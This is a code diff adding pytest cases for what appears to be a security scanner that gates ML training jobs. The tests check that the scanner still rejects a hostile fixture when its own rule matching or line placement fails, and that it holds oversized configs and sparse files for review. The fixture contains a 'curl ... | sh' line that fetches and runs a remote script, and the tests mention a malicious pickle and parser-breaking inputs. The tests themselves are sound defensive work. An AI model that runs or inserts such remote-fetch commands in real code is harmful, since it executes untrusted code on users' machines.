@@ -132,3 +132,71 @@ def test_a_zip_is_not_judged_on_its_first_pickles_only(tmp_path: Path) -> None:
         zf.writestr("archive/part99.pkl", pickle.dumps(_Shell()))
     (tmp_path / "checkpoint.pt").write_bytes(buf.getvalue())
     kit.assert_held(kit.scan(tmp_path / "checkpoint.pt"), "files.pickle-opaque")
+
+
+# ------------------------------------------------------------- an internal error hides nothing
+
+CLIENT = ("import os, subprocess\nimport numpy as np\n\n"
+          "gpus = subprocess.run(['nvidia-smi', '-L'], capture_output=True, text=True)\n"
+          "weights = np.zeros(10)\n"
+          "os.system('curl -s http://10.0.0.7/setup | sh')\n")
+
+
+def test_an_error_matching_one_call_keeps_every_other_calls_reject(tmp_path: Path, monkeypatch) -> None:
+    from analyzer.engine import match
+
+    real = match.holds
+
+    def fails_on_subprocess_run(resolver, call, scope, condition):
+        if getattr(call.func, "attr", None) is not None and call.func.attr.value == "run":
+            raise RuntimeError("a condition the gate cannot evaluate on this call")
+        return real(resolver, call, scope, condition)
+
+    monkeypatch.setattr(match, "holds", fails_on_subprocess_run)
+    report = kit.scan_source(tmp_path, CLIENT, "train.py")
+    kit.assert_held(report, REJECTED, Decision.REJECT)
+    [error] = [f for f in report.findings if f.rule == "unanalyzable.internal-error"]
+    assert "the call rules failed" in error.message and error.path == "train.py"
+    assert kit.holds(report, "unvouched.import") or kit.holds(report, "unvouched.api")
+
+
+def test_findings_whose_lines_cannot_be_placed_still_stand(tmp_path: Path, monkeypatch) -> None:
+    from analyzer.engine import match
+
+    def broken(*args, **kwargs):
+        raise RuntimeError("position pass failed")
+
+    monkeypatch.setattr(match, "locate", broken)
+    report = kit.scan_source(tmp_path, CLIENT, "train.py")
+    kit.assert_held(report, REJECTED, Decision.REJECT)
+    assert kit.holds(report, "unanalyzable.internal-error")
+
+
+# ------------------------------------------------------------- configs Python refuses
+
+def test_a_pyproject_with_an_integer_past_pythons_digit_limit_is_named_a_config_it_cannot_read(tmp_path) -> None:
+    pyproject = ('[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n\n'
+                 f'[tool.jobgate-padding]\nseed = {"7" * 100_000}\n')
+    report = kit.scan_files(tmp_path, {"pyproject.toml": pyproject, "train.py": "print(1)\n"})
+    kit.assert_held(report, "unanalyzable.config-parse", Decision.ESCALATE)
+    assert not kit.holds(report, "unanalyzable.internal-error"), kit.findings(report)
+
+
+# ------------------------------------------------------------- a sparse file
+
+def test_a_sparse_file_of_gigabytes_is_listed_unread_and_the_job_held_within_seconds(tmp_path: Path) -> None:
+    """4 GB of holes (a few KB on disk) took 90 s to hash; a terabyte would block a site's deploy for hours."""
+    import time
+
+    app = deployed(tmp_path, "job-sparse", "import numpy as np\nprint(np.load('weights.bin').sum())\n")
+    with open(app / "custom" / "weights.bin", "wb") as fh:
+        fh.truncate(4 << 30)
+    start = time.monotonic()
+    verdict = _site(tmp_path).check_deployed_app(app, {})
+    assert time.monotonic() - start < 60
+    assert not verdict.allow and "held for review" in verdict.message
+    assert "unanalyzable.limit-size" in verdict.message
+    report = kit.scan(app.parent)
+    [entry] = [f for f in report.files if f.path.endswith("weights.bin")]
+    assert entry.sha256 == "" and entry.size == 4 << 30
+    assert report.decision is Decision.ESCALATE
